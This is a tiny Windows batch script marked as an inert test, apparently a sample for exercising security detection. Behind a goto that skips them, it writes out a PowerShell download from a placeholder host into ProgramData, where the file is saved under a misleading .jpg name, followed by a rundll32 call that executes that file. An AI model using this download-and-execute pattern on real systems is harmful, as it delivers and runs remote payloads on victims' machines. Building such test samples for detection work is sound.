@echo off
rem INERT SEKISHO TEST
goto :end
powershell Invoke-WebRequest -Uri http://example.invalid/1.gif -OutFile C:\ProgramData\inert.jpg
rundll32 C:\ProgramData\inert.jpg,none
:end
